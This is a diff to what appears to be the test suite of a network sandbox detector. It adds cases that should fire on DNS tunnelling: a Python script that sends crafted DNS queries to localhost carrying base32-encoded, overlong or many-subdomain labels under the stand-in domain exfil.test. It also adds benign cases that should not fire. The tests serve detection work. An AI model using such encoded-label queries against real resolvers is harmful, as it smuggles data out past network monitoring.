@@ -539,6 +539,13 @@ def connected(port, family=None):
     return check
 
 
+def queried(qname):
+    def check(env, recs):
+        assert any(r["type"] == "dns" and r["dns"]["qname"] == qname
+                   for r in recs), f"no dns record of {qname}"
+    return check
+
+
 def all_of(*checks):
     def check(env, recs):
         for c in checks:
@@ -571,6 +578,23 @@ time.sleep(float(sys.argv[2]))
 
 DNS_QUERY = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
              b"\x07example\x03com\x00\x00\x01\x00\x01")
+
+# Sends a UDP query for each name in argv[1:] to 127.0.0.1:53, which the
+# default profile allows: the kernel reads each, and drops it (EPERM to
+# the sender) since the profile allows no name; nothing listens there.
+QUERY = r"""
+import socket, struct, sys
+names = sys.argv[1:]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i, name in enumerate(names):
+    q = struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    try:
+        s.sendto(q + b"\0\0\x10\0\x01", ("127.0.0.1", 53))
+    except PermissionError:
+        pass
+"""
 
 FIRE = [
     # ----------------------------------------------------- credentials
@@ -651,6 +675,13 @@ FIRE = [
         c.connect((os.environ["RESOLVER"], 53))
         c.send(q)
         """)),
+    Case("dns-tunnel-label", "base32-label", argv=[
+        PY, "-c", QUERY,
+        "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.exfil.test"]),
+    Case("dns-tunnel-label", "long-label", argv=[
+        PY, "-c", QUERY, "a" * 60 + ".t.exfil.test"]),
+    Case("dns-tunnel-subdomains", "spread", argv=[
+        PY, "-c", QUERY, *(f"c{i}.s.exfil.test" for i in range(200))]),
     Case("destination-sweep", "sweep", netns=True, argv=py("""
         import socket
         for i in range(2, 42):
@@ -928,8 +959,20 @@ BENIGN = [
         import socket
         c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         c.connect(("127.0.0.1", 53))
-        c.send({DNS_QUERY!r})
-        """), check=connected(53)),
+        try:
+            c.send({DNS_QUERY!r})
+        except PermissionError:     # a name the profile does not allow
+            pass
+        """), check=all_of(connected(53), queried("example.com"))),
+    Case("dns-tunnel-label", "wordy-names", argv=[
+        PY, "-c", QUERY, "www.example.test",
+        "registry-mirror-for-internal-packages.example.test",
+        "d3kxqm1h7e9v0s.cloudfront.test"],
+        check=queried("registry-mirror-for-internal-packages.example.test")),
+    Case("dns-tunnel-subdomains", "a-few-hosts", argv=[
+        PY, "-c", QUERY, *(f"host{i}.api.example.test" for i in range(100)),
+        *(f"host{i}.cdn.example.test" for i in range(50))],
+        check=queried("host49.cdn.example.test")),
     Case("destination-sweep", "few-hosts", netns=True, argv=py("""
         import socket
         for i in range(40):
